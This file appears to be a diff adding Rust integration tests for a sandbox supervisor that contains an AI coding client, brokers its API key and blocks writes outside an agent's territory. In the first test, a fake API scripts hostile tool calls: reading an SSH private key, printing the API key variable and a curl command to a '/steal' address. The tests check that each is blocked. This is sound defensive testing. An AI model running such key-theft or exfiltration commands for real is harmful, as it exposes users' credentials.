@@ -1,0 +1,307 @@
+//! The real Claude Code client (pinned, `scripts/claude-code-install.sh`) run whole inside an
+//! agent's sandbox by `loopward contain`, against the test's fake Anthropic API on loopback:
+//! its API calls reach the API only through loopward's gateway, which adds the real key (the
+//! client holds a placeholder); its own `Read` of a key file fails; the session's ledger has
+//! every egress decision and no key.
+
+mod support;
+
+use serde_json::json;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use support::anthropic_server::{self, Reply};
+
+const REAL_KEY: &str = "sk-ant-real-key-held-by-loopward-0042";
+
+fn claude() -> Option<PathBuf> {
+    if let Some(p) = std::env::var_os("LOOPWARD_CLAUDE") {
+        return Some(PathBuf::from(p));
+    }
+    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../.claude-code/node_modules/.bin/claude")
+        .canonicalize()
+        .ok()?;
+    p.is_file().then_some(p)
+}
+
+/// The folder the client is installed in (`…/node_modules`), which the sandbox must read.
+fn install_root(claude: &Path) -> PathBuf {
+    let mut at = claude.to_path_buf();
+    while let Some(parent) = at.parent() {
+        if at.file_name().is_some_and(|n| n == "node_modules") {
+            return parent.to_path_buf();
+        }
+        at = parent.to_path_buf();
+    }
+    claude.parent().unwrap().to_path_buf()
+}
+
+#[test]
+fn the_real_client_contained_reaches_the_api_only_through_the_gateway_with_a_brokered_key() {
+    let Some(claude) = claude() else {
+        eprintln!("\n\n*** SKIPPED: Claude Code is not installed. Run scripts/claude-code-install.sh (CI does) or set LOOPWARD_CLAUDE. ***\n\n");
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("project");
+    let home = dir.path().join("home");
+    std::fs::create_dir_all(root.join("src")).unwrap();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES").unwrap();
+    let key_file = home.join(".ssh/id_ed25519");
+    let (port, server) = anthropic_server::start(vec![
+        Reply::tool("Read", json!({"file_path": key_file.to_str().unwrap()})),
+        Reply::tool(
+            "Grep",
+            json!({"pattern": "PRIVATE", "path": home.join(".ssh").to_str().unwrap(), "output_mode": "content"}),
+        ),
+        Reply::tool(
+            "Bash",
+            json!({"command": "echo key=$ANTHROPIC_API_KEY; env | grep -c sk-ant-real; echo hi > src/out.txt; curl -s -m 3 http://127.0.0.2:9/steal || echo exfil-failed", "description": "look around"}),
+        ),
+        Reply::text("done"),
+    ]);
+    std::fs::write(
+        root.join("loopward.toml"),
+        format!(
+            r#"
+[run]
+first = "root"
+
+[[agent]]
+name = "root"
+tools = ["shell"]
+
+[secrets.ANTHROPIC_API_KEY]
+env = "REAL_ANTHROPIC_KEY"
+gateway = "anthropic"
+upstream = "http://127.0.0.1:{port}"
+
+[env]
+pass = ["IS_SANDBOX", "SHELL", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "DISABLE_AUTOUPDATER"]
+
+[read]
+allow = ["{install}"]
+"#,
+            install = install_root(&claude).display()
+        ),
+    )
+    .unwrap();
+    let state = dir.path().join("state");
+    let out = Command::new(env!("CARGO_BIN_EXE_loopward"))
+        .current_dir(&root)
+        .args(["contain", "--agent", "root", "--id", "s1", "--"])
+        .arg(&claude)
+        .args([
+            "-p",
+            "read the key",
+            "--output-format",
+            "stream-json",
+            "--verbose",
+        ])
+        .args(["--permission-mode", "bypassPermissions"])
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", &home)
+        .env("XDG_STATE_HOME", &state)
+        .env("SHELL", "/bin/bash")
+        .env("IS_SANDBOX", "1")
+        .env("REAL_ANTHROPIC_KEY", REAL_KEY)
+        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
+        .env("DISABLE_AUTOUPDATER", "1")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "stdout: {stdout}\nstderr: {stderr}");
+    // Every API call arrived, each with the real key, which the client never held.
+    let requests: Vec<_> = server
+        .requests()
+        .into_iter()
+        .filter(|r| r.path.starts_with("/v1/messages"))
+        .collect();
+    assert!(requests.len() >= 3, "{requests:?}\n{stdout}\n{stderr}");
+    for r in &requests {
+        assert_eq!(
+            r.api_key.as_deref(),
+            Some(REAL_KEY),
+            "{} {}",
+            r.method,
+            r.path
+        );
+    }
+    let results = server.tool_results();
+    let (_, read_failed, read_text) = &results[0];
+    assert!(*read_failed, "{results:?}");
+    assert!(!read_text.contains("PRIVATE-KEY-BYTES"), "{read_text}");
+    let (_, _, grep) = &results[1];
+    assert!(!grep.contains("PRIVATE-KEY-BYTES"), "{grep}");
+    let (_, _, bash) = &results[2];
+    assert!(
+        bash.contains("key=loopward-brokered-ANTHROPIC_API_KEY"),
+        "{bash}"
+    );
+    assert!(
+        bash.contains("\n0") && bash.contains("127.0.0.2 is not in this agent's net allow-list"),
+        "the real key is in the client's environment: {bash}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(root.join("src/out.txt")).unwrap(),
+        "hi\n"
+    );
+    // The supervisor's ledger: the gateway's decisions, and no key anywhere under runs/.
+    let events = std::fs::read_to_string(root.join("runs/s1/events.jsonl")).unwrap();
+    assert!(
+        events.contains("\"reason\":\"gateway with ANTHROPIC_API_KEY\""),
+        "{events}"
+    );
+    assert!(!stdout.contains(REAL_KEY) && !stderr.contains(REAL_KEY));
+    for e in std::fs::read_dir(root.join("runs/s1")).unwrap() {
+        let p = e.unwrap().path();
+        let bytes = std::fs::read(&p).unwrap();
+        assert!(
+            !bytes
+                .windows(REAL_KEY.len())
+                .any(|w| w == REAL_KEY.as_bytes()),
+            "{}",
+            p.display()
+        );
+    }
+}
+
+#[test]
+fn a_contained_clients_hooks_are_judged_and_recorded_by_the_supervisor_outside() {
+    let Some(claude) = claude() else {
+        eprintln!("\n\n*** SKIPPED: Claude Code is not installed. Run scripts/claude-code-install.sh (CI does) or set LOOPWARD_CLAUDE. ***\n\n");
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("project");
+    let home = dir.path().join("home");
+    std::fs::create_dir_all(root.join("plans")).unwrap();
+    std::fs::create_dir_all(root.join("src")).unwrap();
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::write(root.join("plans/roadmap.md"), "# Roadmap\n").unwrap();
+    let (port, server) = anthropic_server::start(vec![
+        Reply::tool(
+            "Write",
+            json!({"file_path": root.join("plans/roadmap.md").to_str().unwrap(), "content": "# Mine now\n"}),
+        ),
+        Reply::tool(
+            "Bash",
+            json!({"command": "echo hi > src/notes.txt; echo exit=$?; echo x > plans/b.md; echo plans=$?", "description": "a command"}),
+        ),
+        Reply::text("done"),
+    ]);
+    std::fs::write(
+        root.join("loopward.toml"),
+        format!(
+            r#"
+[run]
+first = "root"
+
+[[agent]]
+name = "root"
+tools = ["shell"]
+
+[[agent]]
+name = "planner"
+tools = ["shell"]
+
+[[territory]]
+paths = ["plans/**"]
+owner = "planner"
+
+[secrets.ANTHROPIC_API_KEY]
+env = "REAL_ANTHROPIC_KEY"
+gateway = "anthropic"
+upstream = "http://127.0.0.1:{port}"
+
+[env]
+pass = ["IS_SANDBOX", "SHELL", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "DISABLE_AUTOUPDATER"]
+
+[read]
+allow = ["{install}"]
+"#,
+            install = install_root(&claude).display()
+        ),
+    )
+    .unwrap();
+    let state = dir.path().join("state");
+    let loopward = |args: &[&str]| {
+        Command::new(env!("CARGO_BIN_EXE_loopward"))
+            .current_dir(&root)
+            .args(args)
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOME", &home)
+            .env("XDG_STATE_HOME", &state)
+            .env("REAL_ANTHROPIC_KEY", REAL_KEY)
+            .env("SHELL", "/bin/bash")
+            .env("IS_SANDBOX", "1")
+            .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
+            .env("DISABLE_AUTOUPDATER", "1")
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+    };
+    let install = loopward(&["hook", "install"]);
+    assert!(install.status.success(), "{install:?}");
+    let claude = claude.to_str().unwrap();
+    let out = loopward(&[
+        "contain",
+        "--agent",
+        "root",
+        "--id",
+        "s2",
+        "--",
+        claude,
+        "-p",
+        "take the roadmap",
+        "--output-format",
+        "stream-json",
+        "--verbose",
+        "--permission-mode",
+        "bypassPermissions",
+    ]);
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert!(out.status.success(), "stdout: {stdout}\nstderr: {stderr}");
+    let results = server.tool_results();
+    // The hook, inside, asked the supervisor, which refused the foreign write.
+    let (_, denied, text) = &results[0];
+    assert!(
+        *denied && text.contains("belongs to planner"),
+        "{results:?}\n{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(root.join("plans/roadmap.md")).unwrap(),
+        "# Roadmap\n"
+    );
+    // Its Bash ran, wrapped by the hook in the agent's sandbox inside the contained one.
+    let (_, _, bash) = &results[1];
+    assert!(
+        bash.contains("exit=0") && bash.contains("plans=1"),
+        "{bash}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(root.join("src/notes.txt")).unwrap(),
+        "hi\n"
+    );
+    // The session's hook decisions are in a ledger the supervisor wrote, outside the sandbox.
+    let sessions: Vec<_> = std::fs::read_dir(root.join("runs"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with("claude-code-"))
+        .collect();
+    assert_eq!(sessions.len(), 1, "{sessions:?}");
+    let events =
+        std::fs::read_to_string(root.join("runs").join(&sessions[0]).join("events.jsonl")).unwrap();
+    assert!(events.contains("\"kind\":\"gate_decision\""), "{events}");
+    assert!(events.contains("plans/roadmap.md"), "{events}");
+    let verify = loopward(&["verify", "--unfinished", &format!("runs/{}", sessions[0])]);
+    assert!(verify.status.success(), "{verify:?}");
+}
